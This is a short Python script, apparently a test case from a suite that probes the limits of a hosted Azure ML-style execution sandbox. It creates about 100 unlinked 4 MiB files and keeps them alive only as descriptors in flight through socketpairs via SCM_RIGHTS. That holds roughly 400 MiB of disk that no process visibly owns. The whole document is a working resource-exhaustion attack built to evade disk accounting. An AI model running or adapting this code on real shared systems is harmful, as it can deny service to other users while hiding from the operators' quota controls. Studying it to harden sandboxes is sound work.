"""Writes files without a name that no process holds: each is on its way through a socket (by itself 400 MB)."""

import array
import os
import socket
import time

from attack import exhausting


@exhausting
def azureml_main(dataframe1=None, dataframe2=None):
    held = []
    for number in range(100):
        descriptor = os.open("file", os.O_CREAT | os.O_RDWR)
        os.unlink("file")
        os.write(descriptor, bytes(4 << 20))
        ours, its = socket.socketpair()
        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [descriptor]))])
        os.close(descriptor)
        held.append((ours, its))
    time.sleep(6)
    return f"holds {len(held) * 4} MiB of files in flight"
